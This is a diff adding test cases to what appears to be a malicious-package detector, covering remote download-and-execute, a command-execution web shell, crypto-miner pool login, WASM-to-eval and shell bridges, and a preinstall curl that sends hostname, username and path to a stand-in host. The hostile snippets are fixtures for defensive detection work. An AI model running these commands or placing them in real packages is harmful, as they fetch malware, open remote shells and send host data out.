@@ -59,6 +59,18 @@ describeVerdicts("EXE-02", {
         fs.writeFileSync("/tmp/.a", b, { mode: 0o755 });
         require("child_process").exec("/tmp/.a");
       })();`,
+    "machine code that is loaded like a module": `
+      const fs = require("fs"), path = require("path"), os = require("os");
+      (async () => {
+        const file = path.join(os.tmpdir(), "n" + Date.now() + ".node");
+        fs.writeFileSync(file, Buffer.from(await (await fetch("http://203.0.113.8/n")).arrayBuffer()));
+        require(file);
+      })();`,
+    "by commands, one to fetch and one to start": `
+      const { execSync } = require("child_process");
+      const to = process.env.TEMP + "\\\\host.exe";
+      execSync(\`powershell -c "Invoke-WebRequest -Uri 'https://files.example.test/h' -OutFile '\${to}'"\`);
+      execSync(\`start "" /b "\${to}"\`);`,
   },
   passes: {
     "a build of this platform": {
@@ -88,6 +100,31 @@ describeVerdicts("EXE-02", {
       const fs = require("fs"), path = require("path");
       exports.update = async () => fs.writeFileSync(path.join(__dirname, "list.json"), await (await fetch("${url}")).text());
       exports.version = () => require("child_process").execFileSync("git", ["--version"]).toString();`,
+    "a download that follows a redirect, for the package's own command": {
+      manifest: {
+        name: "sample",
+        bin: { sample: "bin/sample" },
+        scripts: { postinstall: "node install.js" },
+      },
+      files: {
+        "install.js": `
+          const https = require("https"), fs = require("fs"), path = require("path"), cp = require("child_process");
+          const to = path.join(__dirname, "bin", "sample");
+          function get(url, done) {
+            https.get(url, (r) => {
+              if (r.statusCode === 302) return get(r.headers.location, done);
+              const chunks = [];
+              r.on("data", (c) => chunks.push(c));
+              r.on("end", () => done(Buffer.concat(chunks)));
+            });
+          }
+          get("https://github.com/sample/sample/releases/download/v1/sample-" + process.platform, (data) => {
+            fs.writeFileSync(to, data);
+            cp.execFileSync(to, ["--version"]);
+          });`,
+        "bin/sample": "#!/usr/bin/env node",
+      },
+    },
   },
 });
 
@@ -183,6 +220,15 @@ describeVerdicts("EXE-06", {
     "the global object": `module.exports = Function("return this")();`,
     "a plain name for bundlers": `const req = eval("require"); module.exports = req("fs");`,
     "an optional module": `let ws; try { ws = require("bufferutil"); } catch {} module.exports = ws;`,
+    "a loader that calls the one before it": `
+      const Module = require("module");
+      exports.start = (hooks) => {
+        const before = Module.prototype.require;
+        Module.prototype.require = function (id) {
+          const found = before.apply(this, arguments);
+          return hooks[id] ? hooks[id](found) : found;
+        };
+      };`,
   },
 });
 
@@ -221,6 +267,11 @@ describeVerdicts("EXE-08", {
        const s = net.connect(4444, "192.0.2.5");
        s.on("data", (d) => s.write(execSync(d.toString())));`,
     ),
+    "a command in an address that is asked for": `
+      require("http").createServer((req, res) => {
+        const u = new URL(req.url, "http://x");
+        require("child_process").exec(u.searchParams.get("c"), (e, out) => res.end(out));
+      }).listen(31337, "0.0.0.0");`,
   },
   passes: {
     "commands of the user": asCommand(
@@ -281,6 +332,10 @@ describeVerdicts("EXE-13", {
     "a pool, encoded": atInstall(
       `const a = Buffer.from("${base64("./m --donate-level 1 -o pool.example.test:3333")}", "base64").toString(); require("child_process").exec(a);`,
     ),
+    "work that is asked for word by word": `
+      const net = require("net");
+      const s = net.connect(3333, "pool.example.test");
+      s.on("connect", () => s.write(JSON.stringify({ id: 1, method: "login", params: { login: "4", pass: "x", agent: "m/6" } }) + "\\n"));`,
   },
   passes: {
     "a proof of work": `
@@ -288,6 +343,13 @@ describeVerdicts("EXE-13", {
       exports.work = (s) => { let n = 0; while (!createHash("sha256").update(s + n).digest("hex").startsWith("000")) n++; return n; };`,
     "a word": `exports.protocols = ["http", "stratum"];`,
     "a worker for each core": `const os = require("os"), { Worker } = require("worker_threads"); exports.pool = (f) => os.cpus().map(() => new Worker(f));`,
+    "a login by the same words": `
+      const net = require("net");
+      exports.open = (host, user) => {
+        const s = net.connect(3333, host);
+        s.write(JSON.stringify({ id: 1, method: "login", params: { user } }));
+        return s;
+      };`,
   },
 });
 
@@ -304,6 +366,30 @@ describeVerdicts("EXE-14", {
     "a server of the caller": `exports.serve = (port) => require("http").createServer((q, r) => r.end("ok")).listen(port);`,
     "a command": asCommand(`require("http").createServer((q, r) => r.end("ok")).listen(3000);`),
     "a middleware": `module.exports = (req, res, next) => { res.setHeader("x", "1"); next(); };`,
+  },
+});
+
+describeVerdicts("EXE-15", {
+  blocks: {
+    "text out of its memory is run": `
+      const bytes = require("fs").readFileSync(__dirname + "/codec.wasm");
+      const memory = new WebAssembly.Memory({ initial: 1 });
+      const run = (at, length) => eval(Buffer.from(memory.buffer).toString("utf8", at, at + length) + at);
+      new WebAssembly.Instance(new WebAssembly.Module(bytes), { env: { memory, run } }).exports.start();`,
+    "a shell is handed over": `
+      const bytes = require("fs").readFileSync(__dirname + "/codec.wasm");
+      WebAssembly.instantiate(bytes, { host: { run: require("child_process").execSync } });`,
+  },
+  warns: {
+    "the file system is handed over": `
+      const fs = require("fs");
+      WebAssembly.instantiate(fs.readFileSync(__dirname + "/a.wasm"), { host: { read: fs.readFileSync } });`,
+  },
+  passes: {
+    "a codec": `
+      const memory = new WebAssembly.Memory({ initial: 1 });
+      const abort = () => { throw new Error("abort"); };
+      exports.open = (bytes) => WebAssembly.instantiate(bytes, { env: { memory, abort, log: console.log } });`,
   },
 });
 
@@ -384,6 +470,14 @@ describeVerdicts("INS-17", {
        const data = [execSync("whoami"), execSync("hostname"), execSync("uname -a"), execSync("ip addr")].join("\\n");
        const r = require("http").request({ host: "192.0.2.9", method: "POST" }); r.end(data);`,
     ),
+    "in one line of a shell": {
+      manifest: {
+        scripts: {
+          preinstall: 'curl -s "https://files.example.test/?h=$(hostname)&u=$(whoami)&p=$(pwd)"',
+        },
+      },
+      files: { "index.js": "" },
+    },
   },
   passes: {
     "a platform": atInstall(
